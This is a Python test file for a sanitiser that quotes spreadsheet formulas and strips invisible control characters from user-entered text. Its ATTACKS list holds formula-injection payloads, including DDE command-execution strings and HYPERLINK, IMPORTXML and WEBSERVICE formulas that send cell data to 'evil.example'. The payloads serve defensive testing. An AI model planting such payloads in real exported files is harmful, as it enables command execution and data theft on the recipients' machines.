"""What people write stays text: no spreadsheet computes it, nothing invisible is stored."""

import csv
import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from geo.rules.inert import quote_cell, strip_controls, unquote_cell

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    '=IMPORTXML(CONCAT("http://evil.example?v=",A2),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tabc",
    "  =1+1",
    "\u3000=1+1",
    "\xa0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    " \u200b\t =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u3000＝1+1",
    "﹦1+1",
    "﹢1+A1",
    "﹣1+A1",
    "−1+A1",
    "=",
    "--1",
    "+-1",
    "-A1",
    "-1-1",
    "- 1",
    "+86 138 0013 8000=A1",
    "-5\n=1+1",
]
HARMLESS = [
    "",
    "麒麟花园3栋",
    "3-2-501",
    "2026-11-22",
    "2026-11-22 10:32",
    "-5",
    "-5.25",
    "+3",
    "-.5",
    "-1,234.50",
    "-12%",
    "-1e-7",
    "+8613800138000",
    "-",
    "a=b",
    "3栋=3幢",
    "'=1+1",
    "张三@物业",
    "  两个空格",
    "—— 见附件",
]


@pytest.mark.parametrize("text", [text for text in (*ATTACKS, *HARMLESS) if text != "'=1+1"])
def test_what_was_quoted_is_told_from_what_was_written(text: str) -> None:
    assert unquote_cell(quote_cell(text)) == text


@pytest.mark.parametrize("text", ["'", "''=1", "'70年代", "'n'"])
def test_an_apostrophe_before_no_formula_stays(text: str) -> None:
    assert unquote_cell(text) == text


@pytest.mark.parametrize("text", ATTACKS)
def test_formulas_are_quoted(text: str) -> None:
    assert quote_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_computes_nothing_stays_as_written(text: str) -> None:
    assert quote_cell(text) == text


@given(st.text())
def test_quoting_twice_is_quoting_once(text: str) -> None:
    assert quote_cell(quote_cell(text)) == quote_cell(text)


@given(st.text(alphabet="=+-@＝＋－＠ \t\r\n\u3000\u200b1a,.%e"))
def test_no_cell_is_left_that_starts_a_formula(text: str) -> None:
    cell = quote_cell(text)
    lead = unicodedata.normalize("NFKC", cell.replace("\u200b", "")).lstrip()[:1]
    if lead in tuple("=+-@"):
        number = cell.strip().replace("\u200b", "")
        assert number == "-" or float(number.replace(",", "").rstrip("%")) is not None


def test_a_quoted_cell_survives_a_csv_file() -> None:
    written = io.StringIO()
    csv.writer(written, quoting=csv.QUOTE_ALL).writerow(map(quote_cell, ATTACKS))
    (cells,) = csv.reader(io.StringIO(written.getvalue(), newline=""))
    assert all(cell.startswith("'") for cell in cells)


@pytest.mark.parametrize(
    ("text", "stored"),
    [
        ("三\u200b栋\u200d二\u2060单\ufeff元", "三栋二单元"),
        ("\u202e张三\u202c", "张三"),
        ("\u2066李四\u2069\u061c", "李四"),
        ("a\x00b\x07c\x1b[31md\x7f\x9b", "abc[31md"),
        ("第一行\r\n第二行\r第三行\n", "第一行\n第二行\n第三行\n"),
        ("上\u2028中\u2029下\x85尾\v。", "上\n中\n下\n尾\n。"),
        ("楼道\t堆物", "楼道 堆物"),
        ("半\ud83d个", "半个"),
        ("空\u3164白\uffa0字\u115f", "空白字"),
        ("软\u00ad连", "软连"),
        ("标\U000e0041\U000e007f签", "标签"),
        ("尾\ufffe\U0001ffff\ufdd0", "尾"),
    ],
)
def test_what_cannot_be_seen_is_not_stored(text: str, stored: str) -> None:
    assert strip_controls(text) == stored


@pytest.mark.parametrize(
    "text",
    [
        "𠮷野家，“引号”——破折号…",
        "\ue000村",
        "𮯰",
        "葛\U000e0100城",
        "👍🏽好",
        "<b>粗</b>",
        "=1+1",
        "é",
        "e\u0301",
    ],
)
def test_what_can_be_seen_stays(text: str) -> None:
    assert strip_controls(text) == text


@given(st.text())
def test_stored_text_fits_the_database(text: str) -> None:
    stored = strip_controls(text)
    assert "\x00" not in stored
    assert stored.encode().decode() == stored
    assert strip_controls(stored) == stored
